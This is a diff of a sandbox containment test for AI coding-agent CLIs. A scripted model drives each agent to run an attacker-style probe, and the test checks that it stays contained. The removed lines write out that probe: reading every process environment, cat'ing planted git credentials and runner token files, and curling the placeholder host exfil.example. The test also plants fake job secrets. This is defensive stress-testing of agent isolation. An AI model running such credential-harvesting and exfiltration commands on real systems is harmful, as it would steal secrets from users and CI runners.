@@ -10,7 +10,7 @@ import { codex } from '../../src/agent/codex.js';
 import { runAgent, runSummary } from '../../src/agent/run.js';
 import { agentCliBin } from '../../src/sandbox/agent-clis.js';
 import { ScriptedModel } from '../../src/sandbox/models/scripted-model.js';
-import { haveAgentClis, tempFolders } from './helpers.js';
+import { JOB_SECRETS, haveAgentClis, runnerWithSecrets, tempFolders } from './helpers.js';
 
 // TR20: the agent's tools run contained. A real CLI, driven to run what an
 // attacker would, reads every /proc/*/environ it can see, the runner's git
@@ -67,19 +67,8 @@ describe.skipIf(!ok)('the sandbox, with the real CLIs', () => {
     const allowed = createServer((_q, r) => r.end('allowed-host-answered'));
     await new Promise<void>((r) => allowed.listen(0, '127.0.0.1', r));
     const port = (allowed.address() as { port: number }).port;
-    const runnerHome = tmp('yoke-contain-home-');
-    writeFileSync(join(runnerHome, '.git-credentials'), 'https://x-access-token:ghs_credentialsfile0123456789@github.com\n');
-    const runnerTemp = tmp('yoke-contain-rt-');
-    mkdirSync(join(runnerTemp, '_runner_file_commands'));
-    writeFileSync(join(runnerTemp, 'yoke-out.json'), '{"token":"ghs_runnertempfile0123456789"}');
-    const probe = [
-      'for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$f"; done > seen.txt 2>&1',
-      `cat ${runnerHome}/.git-credentials ${runnerTemp}/yoke-out.json >> seen.txt 2>&1`,
-      'ps -eo pid,args >> seen.txt 2>&1',
-      'curl -sS -m 5 https://exfil.example/ >> seen.txt 2>&1; echo "exfil=$?" >> seen.txt',
-      `curl -sS -m 5 http://localhost:${port}/ >> seen.txt 2>&1; echo "allowed=$?" >> seen.txt`,
-      'true',
-    ].join('; ');
+    const { runnerHome, runnerTemp, probe: lines } = runnerWithSecrets(tmp);
+    const probe = [...lines, `curl -sS -m 5 http://localhost:${port}/ >> seen.txt 2>&1; echo "allowed=$?" >> seen.txt`, 'true'].join('; ');
     for (const [agent, key] of [[claudeCode, 'sk-ant-own-key-0123456789abcdef'], [codex, 'sk-own-codex-key-0123456789abcdef']] as const) {
       const model = new ScriptedModel({ script: (r) => (r.toolResults === 0 ? { run: probe } : { say: 'done' }) });
       await model.start();
@@ -89,11 +78,7 @@ describe.skipIf(!ok)('the sandbox, with the real CLIs', () => {
           PATH: `${agentCliBin(agent.binary as 'claude' | 'codex')}:${process.env.PATH}`,
           HOME: runnerHome,
           RUNNER_TEMP: runnerTemp,
-          GITHUB_TOKEN: 'ghs_jobtoken0123456789abcdef',
-          ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-request-token-0123456789',
-          ACTIONS_ID_TOKEN_REQUEST_URL: 'http://runner.invalid/oidc',
-          ACTIONS_RUNTIME_TOKEN: 'runtime-token-0123456789',
-          YOKE_RUN_SECRET: 'run-secret-0123456789abcdef',
+          ...JOB_SECRETS,
           ...(agent === claudeCode ? { ANTHROPIC_API_KEY: key, ANTHROPIC_BASE_URL: model.url } : { CODEX_API_KEY: key, OPENAI_BASE_URL: `${model.url}/v1` }),
         };
         const r = await runAgent(agent, 'probe', { maxTurns: 5, maxUsd: null }, { cwd, env, stopAt: Date.now() + 60_000, now: Date.now, log: () => undefined, contain: { allow: ['localhost'] } });
